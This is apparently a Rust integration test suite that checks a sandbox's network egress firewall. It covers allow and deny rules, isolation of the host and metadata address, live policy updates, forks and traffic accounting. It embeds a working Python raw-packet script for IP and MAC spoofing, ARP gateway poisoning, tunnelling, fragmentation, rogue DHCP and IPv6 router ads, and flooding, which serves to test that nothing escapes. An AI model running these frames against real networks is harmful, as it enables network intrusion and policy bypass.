//! What sandboxes reach: real guests, a real firewall, and an internet that the tests made.

use std::collections::BTreeSet;
use std::net::IpAddr;
use std::process::Command;

use futures_util::future::join_all;
use nix::sys::signal::{Signal, kill};
use sandpiper::client::{CreateSandbox, Lifecycle, NetworkPolicy, OnTimeout};
use support::internet::{API, EVIL, Internet, PRIVATE, RANGE, RESOLVER, WWW};
use support::listeners::{self, Listeners};
use support::{Dialogue, Host, REACHER, Sandbox, eventually, small, text, wait_until};
use tokio::net::TcpStream;

tests! {
    shared: [
        by_default_all_that_is_public_is_reached,
        neither_the_host_nor_the_networks_that_it_is_in_are_reached,
        ranges_and_ports_are_allowed_as_they_are_written,
        what_is_denied_is_not_reached_by_name_or_by_range,
        a_profile_opens_what_the_operator_put_into_it,
        an_update_holds_at_once_also_for_connections_that_are_open,
        a_policy_that_changed_during_a_pause_holds_from_the_first_packet_on,
        forks_have_networks_of_their_own,
        what_a_guest_sends_is_usage_and_what_it_is_denied_is_not,
    ],
    alone: [
        without_internet_nothing_is_reached_and_no_name_is_known,
        a_name_that_is_allowed_is_reached_by_that_name_only,
        an_update_while_the_agent_is_away_is_made_up_for_and_its_kill_opens_nothing,
        nothing_that_root_in_a_guest_sends_gets_past_its_policy,
    ],
}

async fn by_default_all_that_is_public_is_reached() {
    let (sandbox, mut guest) = guest(NetworkPolicy::default()).await;

    assert_eq!(guest.ask("resolve api.example.test").await, API);
    assert_eq!(guest.ask("tcp api.example.test 9999").await, format!("open ::ffff:{API}:9999"));
    assert_eq!(guest.ask("http www.example.test 80 www.example.test").await, format!("{WWW} www.example.test"));
    assert_eq!(guest.ask("https www.example.test www.example.test").await, format!("{WWW} www.example.test"));
    assert_eq!(guest.ask(&format!("udp {EVIL} 9999")).await, "echo");
    let mut root = Dialogue::start_as(&sandbox, REACHER, Some("root")).await;
    assert_eq!(root.ask(&format!("ping {EVIL}")).await, "echo");
}

async fn neither_the_host_nor_the_networks_that_it_is_in_are_reached() {
    let (sandbox, mut guest) = guest(NetworkPolicy::default()).await;
    let mut root = Dialogue::start_as(&sandbox, REACHER, Some("root")).await;
    let listeners = Listeners::start(&addresses_of_host(&sandbox), &[22, 80, 17070]).await;
    let internet = Internet::shared();
    let known = internet.arrivals_of(&PRIVATE).len();
    for address in PRIVATE {
        drop(TcpStream::connect((address, 9999)).await.expect("the host reaches its networks"));
    }
    eventually("the host has arrived", || async { internet.arrivals_of(&PRIVATE).len() == known + PRIVATE.len() })
        .await;

    let addresses: Vec<String> = PRIVATE.into_iter().chain(["169.254.169.254"]).map(str::to_owned).collect();
    let own = listeners.addresses.iter().map(|address| format!("tcp {} {}", address.ip(), address.port()));
    let others = addresses.iter().flat_map(|address| [80, 9999].map(|port| format!("tcp {address} {port}")));
    all_answer(&mut guest, own.chain(others), "closed").await;
    let ipv4 = listeners.addresses.iter().filter(|address| address.is_ipv4()).map(|address| address.ip().to_string());
    let pinged: BTreeSet<String> = ipv4.chain(addresses).collect();
    all_answer(&mut root, pinged.iter().map(|address| format!("ping {address}")), "silent").await;
    for hidden in ["loopback", "private"] {
        assert_eq!(guest.ask(&format!("resolve {hidden}.example.test")).await, "unknown", "{hidden}");
    }
    assert_eq!(guest.ask("resolve metadata.example.test").await, API, "only the public one of its addresses");
    // What the same guest may reach, by the same means, it does reach.
    assert_eq!(guest.ask(&format!("tcp {EVIL} 9999")).await, format!("open ::ffff:{EVIL}:9999"));
    assert_eq!(root.ask(&format!("ping {EVIL}")).await, "echo");
    assert_eq!(listeners.peers(), []);
    assert_eq!(internet.arrivals_of(&PRIVATE).len(), known + PRIVATE.len());
    let denied = Host::shared().client.denied(&sandbox.id).await.unwrap();
    let metadata = denied.denied.iter().find(|denied| denied.host == "169.254.169.254" && denied.port == Some(80));
    assert!(metadata.is_some_and(|denied| denied.protocol == "tcp" && denied.count > 0), "{denied:?}");
}

/// Asks everything at once, and panics unless all has this answer.
async fn all_answer(guest: &mut Dialogue, questions: impl IntoIterator<Item = String>, answer: &str) {
    let questions: Vec<String> = questions.into_iter().collect();
    let answers = guest.ask(&questions.join("; ")).await;
    let answers: Vec<&str> = answers.split("; ").collect();
    assert_eq!(answers.len(), questions.len(), "{answers:?}");
    let others: Vec<_> = questions.iter().zip(answers).filter(|(_, found)| *found != answer).collect();
    assert!(others.is_empty(), "not {answer}: {others:?}");
}

/// The host's own addresses, those left out that it has for other sandboxes, which come and go.
fn addresses_of_host(sandbox: &Sandbox) -> Vec<IpAddr> {
    let own = Host::shared().link_of(&sandbox.id).expect("the sandbox has a network");
    let is_meant =
        |link: &String| *link == own || !link.starts_with(own.trim_end_matches(|c: char| c.is_ascii_digit()));
    let found = listeners::addresses().into_iter().filter(|(link, _)| is_meant(link));
    let found: Vec<IpAddr> = found.map(|(_, address)| address).collect();
    assert!(found.len() >= 3, "one at the internet, two at the sandbox: {found:?}");
    found
}

async fn without_internet_nothing_is_reached_and_no_name_is_known() {
    let internet = Internet::shared();
    let (sandbox, mut guest) = guest(closed(&[])).await;
    let before = internet.arrivals().len();

    assert_eq!(guest.ask("resolve api.example.test").await, "unknown");
    let everybody = [API, WWW, EVIL, RESOLVER];
    let by_tcp = |address| [22, 53, 80, 443, 853, 9999].map(|port| format!("tcp {address} {port}"));
    all_answer(&mut guest, everybody.into_iter().flat_map(by_tcp), "closed").await;
    let by_udp = |address| [53, 443, 9999].map(|port| format!("udp {address} {port}"));
    all_answer(&mut guest, everybody.into_iter().flat_map(by_udp), "silent").await;

    assert_eq!(internet.arrivals()[before..], []);
    let denied = Host::shared().client.denied(&sandbox.id).await.unwrap();
    assert!(denied.denied.iter().any(|denied| denied.protocol == "dns" && denied.host == "api.example.test"));
    assert!(denied.total >= 40, "{}", denied.total);
}

async fn a_name_that_is_allowed_is_reached_by_that_name_only() {
    let internet = Internet::shared();
    let (_sandbox, mut guest) = guest(closed(&["api.example.test", "www.example.test:443"])).await;

    assert_eq!(guest.ask(&format!("tcp {API} 9999")).await, "closed", "nobody has resolved it yet");
    assert_eq!(guest.ask("tcp api.example.test 9999").await, format!("open ::ffff:{API}:9999"));
    assert_eq!(guest.ask("http api.example.test 80 api.example.test").await, format!("{API} api.example.test"));
    assert_eq!(guest.ask("https api.example.test api.example.test").await, format!("{API} api.example.test"));
    assert_eq!(guest.ask("https www.example.test www.example.test").await, format!("{WWW} www.example.test"));
    assert_eq!(guest.ask("tcp www.example.test 9999").await, "closed", "another port");
    assert_eq!(guest.ask("resolve evil.example.test").await, "unknown");

    // By the address of an allowed name, but in another's name.
    let before = internet.arrivals().len();
    assert_eq!(guest.ask("https api.example.test evil.example.test").await, "closed");
    assert_eq!(guest.ask("http api.example.test 80 evil.example.test").await, "HTTP/1.1 403 Forbidden");
    // In an allowed name, but to another address: the guest has no way to it.
    assert_eq!(guest.ask(&format!("https {EVIL} api.example.test")).await, "closed");
    assert_eq!(guest.ask(&format!("udp {API} 443")).await, "silent", "QUIC would hide the name");
    let arrived = internet.arrivals().split_off(before);
    assert!(arrived.iter().all(|arrival| arrival.protocol == "dns"), "{arrived:?}");
}

async fn ranges_and_ports_are_allowed_as_they_are_written() {
    let policy = NetworkPolicy { deny_out: vec![RANGE.into()], ..closed(&[&format!("{RANGE}:9999"), API]) };
    let (_sandbox, mut guest) = guest(policy).await;
    assert_eq!(guest.ask(&format!("tcp {EVIL} 9999")).await, format!("open ::ffff:{EVIL}:9999"));
    assert_eq!(guest.ask(&format!("udp {EVIL} 9999")).await, "echo");
    assert_eq!(guest.ask(&format!("tcp {EVIL} 22")).await, "closed");
    assert_eq!(guest.ask(&format!("tcp {API} 22")).await, format!("open ::ffff:{API}:22"));
    assert_eq!(guest.ask(&format!("http {API} 80 whatever.test")).await, format!("{API} whatever.test"));
    assert_eq!(guest.ask(&format!("tcp {WWW} 9999")).await, "closed");
}

async fn what_is_denied_is_not_reached_by_name_or_by_range() {
    let policy = NetworkPolicy { deny_out: vec!["www.example.test".into(), RANGE.into()], ..NetworkPolicy::default() };
    let (_sandbox, mut guest) = guest(policy).await;
    assert_eq!(guest.ask("resolve www.example.test").await, "unknown");
    assert_eq!(guest.ask(&format!("http {WWW} 80 www.example.test")).await, "HTTP/1.1 403 Forbidden");
    assert_eq!(guest.ask(&format!("https {WWW} www.example.test")).await, "closed");
    assert_eq!(guest.ask(&format!("udp {RESOLVER} 53")).await, "silent", "another resolver");
    assert_eq!(guest.ask(&format!("tcp {EVIL} 9999")).await, "closed");
    assert_eq!(guest.ask("https api.example.test api.example.test").await, format!("{API} api.example.test"));
    assert_eq!(guest.ask("tcp api.example.test 9999").await, format!("open ::ffff:{API}:9999"));
}

async fn a_profile_opens_what_the_operator_put_into_it() {
    let registries = NetworkPolicy { allow_package_registry_access: true, ..closed(&[]) };
    let (_sandbox, mut guest) = guest(registries).await;
    let reached = guest.ask("https registry.example.test registry.example.test").await;
    assert!(reached.ends_with("registry.example.test"), "{reached}");
    assert_eq!(guest.ask("resolve api.example.test").await, "unknown");
}

async fn an_update_holds_at_once_also_for_connections_that_are_open() {
    let host = Host::shared();
    let (sandbox, mut guest) = guest(NetworkPolicy::default()).await;
    assert_eq!(guest.ask("hold api.example.test 9999").await, "held 0");
    assert_eq!(guest.ask(&format!("hold {EVIL} 9999")).await, "held 1");

    let network = host.client.replace_network(&sandbox.id, &closed(&["api.example.test"])).await.unwrap();
    assert_eq!(network.apply_status, "applied");
    assert_eq!(guest.ask("use 0").await, "alive", "it is allowed still, by its name");
    assert_eq!(guest.ask("use 1").await, "cut");
    assert_eq!(guest.ask(&format!("tcp {EVIL} 9999")).await, "closed");

    host.client.replace_network(&sandbox.id, &NetworkPolicy::default()).await.unwrap();
    assert_eq!(guest.ask(&format!("tcp {EVIL} 9999")).await, format!("open ::ffff:{EVIL}:9999"));
    assert_eq!(guest.ask("use 0").await, "alive");
}

async fn an_update_while_the_agent_is_away_is_made_up_for_and_its_kill_opens_nothing() {
    let host = Host::shared();
    let (sandbox, mut guest) = guest(closed(&[RANGE])).await;
    assert_eq!(guest.ask(&format!("hold {EVIL} 9999")).await, "held 0");

    // An agent that was killed: its successor takes the network over as it is.
    host.kill_agent().await;
    let mut guest = Dialogue::attach(&sandbox, guest.pid()).await;
    assert_eq!(guest.ask("use 0").await, "alive");
    assert_eq!(guest.ask(&format!("tcp {WWW} 9999")).await, "closed");
    assert_eq!(guest.ask("resolve api.example.test").await, "unknown");

    // One that does not answer.
    let agent = host.agent_pid().expect("an agent runs");
    kill(agent, Signal::SIGSTOP).unwrap();
    let first = host.client.replace_network(&sandbox.id, &closed(&[])).await;
    let last = host.client.replace_network(&sandbox.id, &closed(&["api.example.test"])).await;
    kill(agent, Signal::SIGCONT).unwrap();
    assert_eq!(first.unwrap().apply_status, "pending");
    assert_eq!(last.unwrap().apply_status, "pending");

    wait_until("the newest policy is applied", || async {
        let network = host.client.network(&sandbox.id).await.map_err(|error| error.to_string())?;
        if network.apply_status == "applied" { Ok(()) } else { Err(format!("{network:?}")) }
    })
    .await;
    assert_eq!(guest.ask("use 0").await, "cut");
    assert_eq!(guest.ask("tcp api.example.test 9999").await, format!("open ::ffff:{API}:9999"));
}

async fn a_policy_that_changed_during_a_pause_holds_from_the_first_packet_on() {
    let host = Host::shared();
    let internet = Internet::shared();
    let lifecycle = Some(Lifecycle { on_timeout: OnTimeout::Pause, auto_resume: true, ..Lifecycle::default() });
    let mut sandbox = host.sandbox_with(&CreateSandbox { lifecycle, ..small() }).await;
    let guest = Dialogue::start(&sandbox, REACHER).await;
    let sender = "while :; do echo late > /dev/udp/198.51.100.66/9999; sleep 0.02; done";
    sandbox.data_plane.start(&support::shell(sender, None)).await.unwrap();
    let late =
        || internet.arrivals_of(&[EVIL]).iter().filter(|arrival| arrival.name.as_deref() == Some("late\n")).count();
    for is_woken in [false, true] {
        host.client.replace_network(&sandbox.id, &NetworkPolicy::default()).await.unwrap();
        let before = late();
        eventually("datagrams arrive", || async { late() > before }).await;

        sandbox.pause().await.unwrap();
        let before = late();
        let network = host.client.replace_network(&sandbox.id, &closed(&["api.example.test"])).await.unwrap();
        assert_eq!(network.apply_status, "applied");
        if !is_woken {
            sandbox.resume(None).await.unwrap();
        }

        // A request, which wakes it.
        let mut guest = Dialogue::attach(&sandbox, guest.pid()).await;
        assert_eq!(guest.ask("tcp api.example.test 9999").await, format!("open ::ffff:{API}:9999"));
        assert_eq!(guest.ask(&format!("udp {EVIL} 9999")).await, "silent");
        assert_eq!(late(), before, "woken: {is_woken}");
    }
}

async fn forks_have_networks_of_their_own() {
    let host = Host::shared();
    let (source, mut guest) = guest(closed(&["api.example.test"])).await;
    assert_eq!(guest.ask("tcp api.example.test 9999").await, format!("open ::ffff:{API}:9999"));

    let forks = source.fork(2).await.unwrap();
    let addresses = join_all(forks.iter().map(|fork| fork.out("ip -4 -o address show eth0 | awk '{print $4}'"))).await;
    let macs = join_all(forks.iter().map(|fork| fork.out("cat /sys/class/net/eth0/address"))).await;
    assert_eq!(addresses[0], addresses[1]);
    assert_ne!(macs[0], macs[1]);

    host.client.replace_network(&forks[0].id, &closed(&[])).await.unwrap();
    let mut first = Dialogue::attach(&forks[0], guest.pid()).await;
    let mut second = Dialogue::attach(&forks[1], guest.pid()).await;
    assert_eq!(first.ask("tcp api.example.test 9999").await, "closed");
    assert_eq!(second.ask("tcp api.example.test 9999").await, format!("open ::ffff:{API}:9999"));
    assert_eq!(guest.ask("tcp api.example.test 9999").await, format!("open ::ffff:{API}:9999"));

    // A server in the one is not reached from the other, whatever address is tried.
    host.client.replace_network(&forks[0].id, &NetworkPolicy::default()).await.unwrap();
    forks[1].data_plane.start(&support::shell("exec python3 -m http.server 7777", None)).await.unwrap();
    let own = addresses[1].split('/').next().expect("an address and its length");
    let listens = format!("exec 3<>/dev/tcp/{own}/7777");
    wait_until("the server listens, as its own guest sees", || async {
        let dialled = forks[1].sh(&listens).await;
        if dialled.end.exit_code == 0 { Ok(()) } else { Err(text(&dialled.stderr)) }
    })
    .await;
    assert_eq!(first.ask(&format!("tcp {EVIL} 9999")).await, format!("open ::ffff:{EVIL}:9999"));
    let of_slot = addresses_of_slot(&forks[1]);
    assert!(of_slot.len() >= 3, "one at the guest, two at the host: {of_slot:?}");
    for address in of_slot {
        assert_eq!(first.ask(&format!("tcp {address} 7777")).await, "closed", "{address}");
    }
    for fork in forks {
        host.leaves_nothing(fork).await;
    }
    host.leaves_nothing(source).await;
}

/// What a sandbox's slot is called by: the addresses in its namespace.
fn addresses_of_slot(sandbox: &Sandbox) -> Vec<String> {
    let slot = Host::shared().slot_of(&sandbox.id).expect("the sandbox has a network");
    let listed = Command::new("ip").args(["-n", &slot, "-o", "address", "show", "scope", "global"]).output();
    let listed = text(&listed.expect("iproute2 is installed").stdout);
    let addresses = listed.lines().filter_map(|line| line.split_whitespace().nth(3)?.split('/').next());
    addresses.map(str::to_owned).collect()
}

/// What root in a guest may try with frames of its own. Prints nothing; what matters is what arrives.
const ATTACKS: &str = r#"
import os, socket, struct, sys
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("eth0", 0))
own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
broadcast = b"\xff" * 6
gateway = next(bytes.fromhex(line.split()[3].replace(":", "")) for line in open("/proc/net/arp") if line.startswith("100.64.0.1 "))
def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total >> 16) + (total & 0xffff)
    return ~total & 0xffff
def ip(source, to, protocol, payload, flags=0, options=b""):
    head = struct.pack("!BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), 7, flags, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(to)) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
def udp(port, data):
    return struct.pack("!HHHH", 4000, port, 8 + len(data), 0) + data
def frame(kind, payload, mac=own, to=gateway):
    try:
        raw.send(to + mac + struct.pack("!H", kind) + payload)
    except OSError:
        pass
EVIL, API = "198.51.100.66", "203.0.113.20"
for source in ["203.0.113.30", "100.64.0.1", "100.66.0.9", "127.0.0.1", "10.0.2.15", "0.0.0.0"]:
    frame(0x800, ip(source, EVIL, 17, udp(9999, b"spoofed")))
    frame(0x800, ip(source, API, 17, udp(9999, b"spoofed")))
frame(0x800, ip("100.64.0.2", API, 17, udp(9999, b"other mac")), mac=b"\x02spoof")
# A route of the sender's choice, through an address that is allowed.
frame(0x800, ip("100.64.0.2", API, 17, udp(9999, b"routed"), options=b"\x83\x07\x04" + socket.inet_aton(EVIL) + b"\0"))
# In fragments, of which only the first says the port; and a first one that is overlapped by the second.
data = udp(9999, b"fragments" * 4)
frame(0x800, ip("100.64.0.2", EVIL, 17, data[:16], flags=0x2000))
frame(0x800, ip("100.64.0.2", EVIL, 17, data[16:], flags=2))
# In a VLAN, in another VLAN, in IP in IP, in GRE, and as nothing that anybody knows.
inner = ip("100.64.0.2", EVIL, 17, udp(9999, b"tunnelled"))
frame(0x8100, b"\0\x01\x08\0" + inner)
frame(0x88a8, b"\0\x01\x81\0\0\x02\x08\0" + inner)
frame(0x800, ip("100.64.0.2", API, 4, inner))
frame(0x800, ip("100.64.0.2", API, 47, b"\0\0\x08\0" + inner))
frame(0x1234, inner)
# To be the gateway, for everybody.
arp = lambda source_mac, source, target: struct.pack("!HHBBH", 1, 0x800, 6, 4, 2) + source_mac + socket.inet_aton(source) + broadcast + socket.inet_aton(target)
for source in ["100.64.0.1", "100.66.0.1", "203.0.113.1"]:
    frame(0x806, arp(own, source, "100.64.0.1"), to=broadcast)
frame(0x806, arp(b"\x02spoof", "100.64.0.2", "100.64.0.1"), mac=b"\x02spoof", to=broadcast)
# A DHCP server and client, and a router of IPv6.
frame(0x800, ip("0.0.0.0", "255.255.255.255", 17, struct.pack("!HHHH", 68, 67, 16, 0) + b"discover"), to=broadcast)
frame(0x800, ip("100.64.0.2", "255.255.255.255", 17, struct.pack("!HHHH", 67, 68, 16, 0) + b"offering"), to=broadcast)
v6 = lambda source, to, kind, payload: struct.pack("!IHBB", 6 << 28, len(payload), kind, 255) + socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, to) + payload
frame(0x86dd, v6("fe80::1", "ff02::1", 58, struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)), to=b"\x33\x33\0\0\0\x01")
frame(0x86dd, v6("fd5a:5a::2", "2001:db8:1::20", 0, b"\x11\0\0\0\0\0\0\0" + udp(9999, b"hopopts!")))
# Too short to be anything.
for length in range(14):
    try:
        raw.send((gateway + own + b"\x08\0")[:length])
    except OSError:
        pass
# And a flood.
packet = gateway + own + b"\x08\0" + ip("100.64.0.2", EVIL, 17, udp(9999, b"flood"))
for _ in range(20000):
    try:
        raw.send(packet)
    except OSError:
        pass
print("done")
"#;

async fn nothing_that_root_in_a_guest_sends_gets_past_its_policy() {
    let host = Host::shared();
    let internet = Internet::shared();
    let (sandbox, mut guest) = guest(closed(&["api.example.test"])).await;
    let (_neighbour, mut other) = self::guest(closed(&["api.example.test"])).await;
    assert_eq!(guest.ask("tcp api.example.test 9999").await, format!("open ::ffff:{API}:9999"));
    let before = internet.arrivals().len();

    sandbox.data_plane.write_file("/root/attacks.py", ATTACKS.as_bytes().to_vec(), Some("root")).await.unwrap();
    let attack = sandbox.root_sh("python3 /root/attacks.py").await;
    assert_eq!(support::text(&attack.stdout), "done\n", "{}", support::text(&attack.stderr));
    // In the name of the interface itself: an address, a route and a resolver of its own.
    sandbox.root_sh("ip address add 203.0.113.99/24 dev eth0; ip route add default via 100.64.0.1 metric 1").await;
    assert_eq!(guest.ask(&format!("udp {RESOLVER} 53")).await, "silent");
    assert_eq!(guest.ask(&format!("tcp {RESOLVER} 53")).await, "closed");

    // Its network and its neighbour's still work, so whatever was to arrive by now has arrived.
    sandbox.root_sh("ip address delete 203.0.113.99/24 dev eth0").await;
    wait_until("the guest reaches what it may", || async {
        let reached = sandbox.out("exec 3<>/dev/tcp/api.example.test/9999 && head -n 1 <&3 || true").await;
        if reached.contains(API) { Ok(()) } else { Err(reached) }
    })
    .await;
    assert_eq!(other.ask("tcp api.example.test 9999").await, format!("open ::ffff:{API}:9999"));
    let arrived = internet.arrivals().split_off(before);
    let expected = |protocol: &str, address: &str| protocol == "dns" || (protocol, address) == ("tcp", API);
    assert!(arrived.iter().all(|arrival| expected(&arrival.protocol, &arrival.address)), "{arrived:?}");
    let denied = host.client.denied(&sandbox.id).await.unwrap();
    assert!(denied.total > 1000, "{}", denied.total);
}

async fn what_a_guest_sends_is_usage_and_what_it_is_denied_is_not() {
    const MIB: u64 = 16;
    let host = Host::shared();
    let policy = NetworkPolicy { deny_out: vec![EVIL.to_owned()], ..NetworkPolicy::default() };
    let (sandbox, mut guest) = guest(policy).await;

    assert_eq!(guest.ask(&format!("send {API} 9999 {MIB}")).await, format!("sent {MIB}"));
    // A quarter as much that is denied, and what comes to the sandbox by another way.
    assert_eq!(guest.ask(&format!("flood {EVIL} 9999 {}", MIB / 4)).await, "done");
    sandbox.data_plane.write_file("/home/user/uploaded", vec![0; 4 << 20], None).await.unwrap();
    // Before it was read once, perhaps: what counts is on its way when the sandbox is gone.
    host.client.pause(&sandbox.id).await.unwrap();

    let filters = [("sandbox_id", sandbox.id.as_str()), ("granularity", "hour")];
    wait_until("its traffic is counted", || async {
        let totals = host.client.usage(&filters).await.unwrap().totals;
        if totals.egress_bytes >= MIB << 20 { Ok(()) } else { Err(format!("{totals:?}")) }
    })
    .await;
    let totals = host.client.usage(&filters).await.unwrap().totals;
    for passed in [totals.egress_bytes, totals.ingress_bytes] {
        assert!((MIB << 20..(MIB << 20) * 11 / 10).contains(&passed), "{totals:?}");
    }
}

/// Nothing but `allow_out`.
fn closed(allow_out: &[&str]) -> NetworkPolicy {
    NetworkPolicy {
        allow_internet_access: false,
        allow_out: allow_out.iter().map(|entry| (*entry).to_owned()).collect(),
        ..NetworkPolicy::default()
    }
}

/// A sandbox with this policy, and what tries things in it.
async fn guest(policy: NetworkPolicy) -> (Sandbox, Dialogue) {
    // Before the sandbox: its first question should find a server.
    Internet::shared();
    let sandbox = Host::shared().sandbox_with(&CreateSandbox { network: Some(policy), ..small() }).await;
    let dialogue = Dialogue::start(&sandbox, REACHER).await;
    (sandbox, dialogue)
}
